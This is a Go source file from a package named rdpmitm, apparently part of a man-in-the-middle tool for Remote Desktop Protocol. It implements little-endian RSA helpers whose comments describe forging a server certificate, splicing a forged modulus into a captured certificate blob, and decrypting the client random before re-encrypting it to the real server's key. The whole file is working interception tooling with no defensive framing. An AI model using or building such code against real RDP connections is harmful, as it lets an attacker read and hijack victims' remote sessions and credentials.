package rdpmitm

import (
	"crypto/rand"
	"crypto/rsa"
	"fmt"
	"math/big"
)

// rsaKey is a minimal little-endian-native RSA key, separate from the
// stdlib crypto/rsa.PrivateKey shape because the RDP wire format fixes
// every field's byte order and width in ways that don't map onto PKCS#1
// directly: moduli and exponents travel as fixed-width little-endian blobs
// with the RDP-specific "8 trailing pad bytes" quirk rather than as ASN.1
// INTEGERs.
type rsaKey struct {
	modulus    *big.Int
	pubExp     *big.Int
	privExp    *big.Int // nil for a public-only key
	modulusLen int       // byte length of the modulus as generated or as passed to rsaKeyFromModulus
}

// generateRSAKey generates an in-process keypair suitable for forging a
// server certificate: crypto/rsa.GenerateKey plus math/big, without
// shelling out to an external tool. bits must be the RSA modulus size in
// bits (the RDP "bit_len" field).
func generateRSAKey(bits int) (*rsaKey, error) {
	priv, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		return nil, fmt.Errorf("rsa: generate %d-bit key: %w", bits, err)
	}
	priv.Precompute()

	return &rsaKey{
		modulus:    priv.N,
		pubExp:     big.NewInt(int64(priv.E)),
		privExp:    priv.D,
		modulusLen: (bits + 7) / 8,
	}, nil
}

// rsaKeyFromModulus builds a public-only key from a captured wire modulus
// (little-endian bytes, which may still carry the RDP blob's 8 trailing
// zero padding bytes: they are high-order zeros and do not change the
// value, though they are counted in modulusLen) and public exponent, for
// re-encrypting the client random against the real server's key.
func rsaKeyFromModulus(modulusLE []byte, pubExp uint32) *rsaKey {
	return &rsaKey{
		modulus:    new(big.Int).SetBytes(reverseBytes(modulusLE)),
		pubExp:     big.NewInt(int64(pubExp)),
		modulusLen: len(modulusLE),
	}
}

// rsaEncryptLE computes m^e mod n over a little-endian plaintext and
// returns a little-endian ciphertext with high-order (trailing, in LE)
// zero bytes stripped. math/big's Bytes() already yields the minimal
// big-endian representation, so reversing it gives the minimal
// little-endian one without needing a fixed-size scratch buffer.
func rsaEncryptLE(data []byte, key *rsaKey) []byte {
	return rsaModExpLE(data, key.pubExp, key.modulus)
}

// rsaDecryptLE computes c^d mod n over a little-endian ciphertext,
// returning the recovered little-endian plaintext (trailing zero bytes
// stripped, same convention as rsaEncryptLE).
func rsaDecryptLE(data []byte, key *rsaKey) []byte {
	if key.privExp == nil {
		return nil
	}
	return rsaModExpLE(data, key.privExp, key.modulus)
}

func rsaModExpLE(data []byte, exponent, modulus *big.Int) []byte {
	x := new(big.Int).SetBytes(reverseBytes(data))
	r := new(big.Int).Exp(x, exponent, modulus)
	return reverseBytes(r.Bytes())
}

// modulusLE serializes the key's modulus to exactly n little-endian bytes,
// zero-padded at the high-order (trailing) end. Used to splice a forged
// modulus into a captured certificate blob at the original field width.
func (k *rsaKey) modulusLE(n int) []byte {
	raw := reverseBytes(k.modulus.Bytes())
	if len(raw) >= n {
		return raw[:n]
	}
	out := make([]byte, n)
	copy(out, raw)
	return out
}

// pubExpU32 returns the public exponent as the 4-byte little-endian value
// the RDP pubkey blob stores it as.
func (k *rsaKey) pubExpU32() uint32 {
	return uint32(k.pubExp.Int64())
}

func reverseBytes(b []byte) []byte {
	out := make([]byte, len(b))
	for i, v := range b {
		out[len(b)-1-i] = v
	}
	return out
}
